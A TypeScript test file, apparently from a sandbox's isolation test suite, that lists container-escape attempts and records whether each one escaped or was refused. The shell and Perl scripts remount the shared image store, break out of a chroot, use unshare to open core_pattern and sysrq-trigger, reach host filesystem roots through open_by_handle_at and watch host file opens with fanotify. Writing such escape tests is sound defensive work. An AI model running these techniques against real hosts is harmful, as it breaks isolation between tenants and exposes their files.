// Attempts on files: of the machine, of the store that all labs share, of other nodes and of other labs.
import { imageStorePath } from '../../../src/api/images.ts';
import { type Attack, perl } from './attack.ts';

export const files: readonly Attack[] = [
  {
    what: 'write into the store of pod images',
    script: `for store in ${imageStorePath} /node${imageStorePath} /proc/1/root${imageStorePath}; do
        mount -o remount,bind,rw $store 2> /dev/null; mount -o remount,rw $store 2> /dev/null
        touch $store/labs-attack-$ID 2> /dev/null; refused "tried $store"
        for file in $store/refs/*; do (exec 3>> $file) 2> /dev/null && escaped "opens $file"; done
      done`,
    prepare: async ({ host, id }) => ({
      [Symbol.asyncDispose]: async () => void (await host.sh(`rm -f ${host.imageStore}/labs-attack-${id}`)),
    }),
    escaped: async ({ host, id }) =>
      (await host.sh(`cat ${host.imageStore}/labs-attack-${id}`)).exitCode === 0
        ? 'made a file in the store'
        : undefined,
  },
  {
    what: 'change an image by a file of a pod that has it',
    from: ['node'],
    script: `find /var/lib/images /proc/1/root/var/lib/images -maxdepth 4 -path '*rootfs/etc' 2> /dev/null |
        while read -r folder; do
          (exec 3>> $folder/hostname) 2> /dev/null && escaped "opens $folder"; refused "tried $folder"
        done`,
  },
  {
    what: 'read the files of another node or of another lab',
    script: `views; for proc in /proc $work/proc; do
        cat $proc/[0-9]*/root/root/labs-marker 2> /dev/null; refused "tried $proc"
      done
      cat /proc/self/mountinfo | grep -o '/[^ ,]*/diff' | sort -u | while read -r layer; do
        cat \${layer%/*/diff}/*/diff/root/labs-marker $work/disk\${layer%/*/diff}/*/diff/root/labs-marker 2> /dev/null
      done`,
  },
  {
    what: "read the machine's files by a hostPath, or by leaving its root folder",
    script: `cat /node$MARKER 2> /dev/null
      for mount in $(cut -d ' ' -f 5 /proc/self/mountinfo); do cat $mount$MARKER; done 2> /dev/null
      ${perl(`
        # A folder outside of a changed root leads up to the real root of the mount namespace.
        mkdir '/run/labs-jail'; opendir my $home, '/'; chroot '/run/labs-jail' or print "refused: chroot: $!\\n";
        chdir $home or print "refused: $!\\n"; chdir '..' for 1 .. 64; chroot '.';
        if (open my $file, '<', $ENV{MARKER}) { print <$file> } else { print "refused: $ENV{MARKER}: $!\\n" }`)}
      umount --lazy / 2> /dev/null; cat $MARKER 2> /dev/null; true`,
  },
  {
    what: 'have more rights in namespaces that it makes itself',
    script: `inside='unshare --user --map-root-user --mount --net --ipc --uts --pid --fork --mount-proc'
      for file in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger /proc/sys/fs/file-max; do
        if $inside bash -c "exec 3>> $file" 2> /dev/null; then escaped "opens $file"; else refused "$file"; fi
      done
      $inside cat $MARKER /node$MARKER /proc/1/root$MARKER 2> /dev/null
      attempt $inside mount -t devtmpfs none $work; attempt $inside mknod /run/labs-disk b 7 0
      attempt $inside mount -o remount,bind,rw ${imageStorePath} ${imageStorePath}`,
  },
  {
    what: "open files of the machine's disk by their number",
    script: perl(`
      # Number 2 is the root folder of an ext4, 128 or 64 that of an xfs, 256 that of a btrfs.
      open my $list, '<', '/proc/self/mountinfo'; my %seen;
      for (<$list>) {
        my ($mount, $type) = /^(?:\\S+ ){4}(\\S+) .* - (\\S+)/ or next; next if $seen{$mount}++;
        open my $inside, '<', $mount or next;
        for my $root (2, 128, 64, 256) {
          my $handle = pack('LlLL', 8, 1, $root, 0); my $folder = call('open_by_handle_at', fileno $inside, $handle, 0);
          next if $folder == -1;
          print "escaped: root folder $root of $mount\\n" if $type =~ /^(ext.|xfs|btrfs)$/;
          if (open my $file, '<', "/proc/self/fd/$folder$ENV{MARKER}") { print <$file> }
        }
      }
      print "refused: tried " . keys(%seen) . " mounts\\n";`),
  },
  {
    what: 'watch which files programs of the machine open',
    script: perl(`
      my $group = call('fanotify_init', 0, 0); verdict('fanotify_init', $group) if $group == -1;
      # 0x101: adds a whole file system, by the event "open".
      for my $path ('/', '/etc/hosts', '/etc/hostname', '/etc/resolv.conf', '/var/lib/images') {
        my $name = "$path\\0"; next unless $group != -1 && -e $path;
        verdict("fanotify_mark $path", call('fanotify_mark', $group, 0x101, 0x20, -100, $name));
      }`),
  },
];
